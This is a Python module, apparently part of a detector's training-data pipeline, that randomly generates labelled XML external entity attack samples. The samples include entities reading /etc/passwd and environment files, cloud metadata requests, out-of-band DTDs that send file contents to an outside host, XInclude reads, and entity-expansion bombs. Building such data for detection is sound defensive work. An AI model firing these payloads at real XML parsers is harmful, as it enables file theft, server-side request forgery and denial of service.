"""XML external entities: DOCTYPEs with SYSTEM/PUBLIC entities, parameter entities and
out-of-band DTDs, XInclude, and entity-expansion bombs; also SVG/SOAP/RSS carriers."""

from __future__ import annotations

import random

from apiward.ml.generators.base import Sample, chance, encode_layer, pick, rand_host, rand_ident


def _uri(rng: random.Random) -> str:
    return pick(rng, (
        "file:///etc/passwd", "file:///etc/hostname", "file:///c:/windows/win.ini", "file:///proc/self/environ",
        f"http://{rand_host(rng)}/{rand_ident(rng)}.dtd", f"https://{rand_host(rng)}/x", "http://169.254.169.254/latest/meta-data/",
        "php://filter/convert.base64-encode/resource=index.php", "expect://id", "jar:file:///tmp/x.zip!/a", "netdoc:///etc/passwd",
        "file:///dev/random", f"ftp://{rand_host(rng)}/", "gopher://127.0.0.1:6379/_", "/etc/passwd", "file:///",
    ))


def _xxe(rng: random.Random) -> str:
    root = pick(rng, ("foo", "root", "data", "user", "xml", "request", "svg", "soap:Envelope", "methodCall", "r", rand_ident(rng)))
    ent = pick(rng, ("xxe", "x", "file", "ent", "e", rand_ident(rng)))
    decl = '<?xml version="1.0" encoding="UTF-8"?>' if chance(rng, 0.6) else pick(rng, ("", '<?xml version="1.0"?>', "<?xml version='1.0' encoding='ISO-8859-1'?>"))
    kind = rng.random()
    if kind < 0.45:
        sysid = pick(rng, ("SYSTEM", "SYSTEM", 'PUBLIC "-//x//y"', 'PUBLIC "x"'))
        dtd = f'<!DOCTYPE {root} [<!ENTITY {ent} {sysid} "{_uri(rng)}">]>'
        body = f"<{root}>{pick(rng, ('', '<name>', '<q>'))}&{ent};{pick(rng, ('', '</name>', '</q>'))}</{root.split(' ')[0]}>"
    elif kind < 0.65:
        dtd = f'<!DOCTYPE {root} [<!ENTITY % {ent} SYSTEM "{_uri(rng)}"> %{ent};]>'
        if chance(rng, 0.5):
            dtd = f'<!DOCTYPE {root} [<!ENTITY % file SYSTEM "file:///etc/passwd"><!ENTITY % dtd SYSTEM "http://{rand_host(rng)}/evil.dtd">%dtd;%send;]>'
        body = f"<{root}>{rand_ident(rng)}</{root.split(' ')[0]}>"
    elif kind < 0.75:
        dtd = f'<!DOCTYPE {root} SYSTEM "{_uri(rng)}">'
        body = f"<{root}>&{ent};</{root}>" if chance(rng, 0.5) else f"<{root}/>"
    elif kind < 0.85:
        dtd = ""
        body = f'<{root} xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="{_uri(rng)}"/></{root}>'
    elif kind < 0.93:
        levels = rng.randint(3, 10)
        ents = ['<!ENTITY lol "lol">'] + [f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * rng.randint(5, 10)}">' for i in range(1, levels)]
        dtd = f"<!DOCTYPE lolz [{''.join(ents)}]>"
        body = f"<lolz>&lol{levels - 1};</lolz>"
    else:
        dtd = f'<!DOCTYPE svg [<!ENTITY {ent} SYSTEM "{_uri(rng)}">]>'
        body = f'<svg xmlns="http://www.w3.org/2000/svg"><text x="0" y="20">&{ent};</text></svg>'
    sep = pick(rng, ("", "\n", " ", "\r\n"))
    return f"{decl}{sep}{dtd}{sep}{body}"


def _fragment(rng: random.Random) -> str:
    """Bare DTD fragments, as sent in a single parameter or an external DTD file."""
    return pick(rng, (
        f'<!ENTITY % {rand_ident(rng)} SYSTEM "{_uri(rng)}">',
        f'<!ENTITY % all "<!ENTITY send SYSTEM \'http://{rand_host(rng)}/?%file;\'>">%all;',
        f'<!DOCTYPE x [<!ENTITY y SYSTEM "{_uri(rng)}">]><x>&y;</x>',
        f'<!ENTITY {rand_ident(rng)} SYSTEM "{_uri(rng)}">',
        f'<xi:include href="{_uri(rng)}" parse="text"/>',
        f'<!DOCTYPE foo [<!ELEMENT foo ANY><!ENTITY xxe SYSTEM "{_uri(rng)}">]>',
    ))


def generate(rng: random.Random, n: int) -> list[Sample]:
    out = []
    for _ in range(n):
        if chance(rng, 0.2):
            out.append(Sample(encode_layer(rng, _fragment(rng)), "xxe", "fragment"))
        else:
            out.append(Sample(encode_layer(rng, _xxe(rng), (0.9, 0.05, 0.05, 0.0)), "xxe", "document"))
    return out
